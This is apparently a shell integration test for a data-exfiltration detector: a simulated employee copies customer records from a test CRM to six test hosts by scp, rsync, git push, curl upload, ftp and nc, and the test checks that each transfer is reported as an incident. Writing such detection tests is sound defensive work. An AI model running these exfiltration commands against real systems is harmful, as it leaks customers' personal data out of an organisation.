#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Tools. The same customer rows go to six places by six programs, each with its real server: each is a
# finding of its own, which names the recipient and the channel.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

for n in 61 62 63 64 65 66; do
	ip -n weir-meet.test address add "10.77.0.$n/24" dev eth0
done
mkdir -p "$work"/{ssh,rsync,ftp,nc}
chmod 0777 "$work/ftp"

# ssh knows nobody without an account; whom the server lets in has a home there.
mkdir -p /etc/netns/weir-meet.test
echo "alice:x:$employee_uid:$employee_uid::$home:/bin/sh" |
	cat /etc/passwd - >/etc/netns/weir-employee/passwd
sed "s|^root:.*|root:x:0:0::$work/ssh:/bin/sh|" /etc/passwd >/etc/netns/weir-meet.test/passwd
dropbearkey -t ed25519 -f "$work/host_key" >"$work/keys.log" 2>&1
ssh-keygen -q -t ed25519 -N '' -f "$work/alice_key"
install -o "$employee_uid" -m 0600 "$work/alice_key" "$home/.key"
install -D -m 0600 "$work/alice_key.pub" "$work/ssh/.ssh/authorized_keys"
chmod 0700 "$work/ssh" "$work/ssh/.ssh"
cat >"$work/rsyncd.conf" <<END
[drop]
path = $work/rsync
read only = no
use chroot = no
uid = root
gid = root
END
git init -q --bare "$work/repo.git"

crm_serves crm.test
serve meet.test 22 dropbear -F -E -s -r "$work/host_key" -p 22 -P "$work/dropbear.pid"
serve meet.test 873 rsync --daemon --no-detach --config="$work/rsyncd.conf"
serve meet.test 9418 git -c safe.directory='*' daemon --base-path="$work" --export-all \
	--enable=receive-pack
cloud_serves meet.test
serve meet.test 21 "$python" -m pyftpdlib -p 21 -w -d "$work/ftp"
serve meet.test 4444 "$support/peer" store --port 4444 --keep "$work/nc"
weir_watches

alice_does <<'END'
for number in 1 2 3 4 5 6 7 8 9 10; do
	curl -sS "https://crm.test/policy/P20207000$number" >>customers.json
done
END
rows_bytes=$(stat -c %s "$home/customers.json")

alice_does <<END
scp -q -i .key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null customers.json \
	root@10.77.0.61:$work/ssh/
END
then_it "scp has copied the rows" test "$(stat -c %s "$work/ssh/customers.json")" -eq "$rows_bytes"

alice_does <<'END'
rsync customers.json rsync://10.77.0.62/drop/
END
then_it "rsync has copied them" test "$(stat -c %s "$work/rsync/customers.json")" -eq "$rows_bytes"

alice_does <<'END'
export GIT_AUTHOR_NAME=alice GIT_AUTHOR_EMAIL=alice@employee GIT_COMMITTER_NAME=alice
export GIT_COMMITTER_EMAIL=alice@employee
git init -q notes
cp customers.json notes/
cd notes
git add customers.json
git commit -q -m rows
git push -q git://10.77.0.63/repo.git HEAD:refs/heads/rows
END
then_it "git has pushed them" git -c safe.directory='*' -C "$work/repo.git" cat-file -e \
	rows:customers.json

alice_does <<'END'
curl -sSk -F file=@customers.json https://10.77.0.64/upload
END
alice_does <<'END'
ftp -V -u ftp://10.77.0.65/ customers.json
END
then_it "ftp has put them" test "$(stat -c %s "$work/ftp/customers.json")" -eq "$rows_bytes"
alice_does <<'END'
nc -N 10.77.0.66 4444 <customers.json
END
then_it "curl has uploaded them" test "$(received_bytes meet.test)" -gt "$rows_bytes"
then_it "nc has sent them" test "$(received_bytes nc)" -eq "$rows_bytes"

soon "six findings" incidents_say "len(d) == 6"
for tool in scp:61:scp rsync:62:rsync git:63:git curl:64:web ftp:65:ftp nc:66:tcp; do
	IFS=: read -r what n channel <<<"$tool"
	soon "$what: one, to 10.77.0.$n, by the channel $channel" \
		incidents_say "[{s['channel'] for s in i['sinks']} for i in d if {s['address'] for s in i['sinks']} == {'10.77.0.$n'}] == [{'$channel'}]"
	soon "$what: it is a direct egress of all the rows from the CRM" \
		incidents_say "all('direct_egress' in i['detectors'] and i['bytes_out'] >= ($rows_bytes if '$what' in ('curl', 'ftp', 'nc') else 500) and {s['name'] for s in i['sources']} == {'crm.test'} for i in d if i['sinks'][0]['address'] == '10.77.0.$n')"
done
soon "the paragraph of the copy by scp says so" \
	incidents_say "any('It left by scp over SSH.' in i['explanation'] for i in d)"
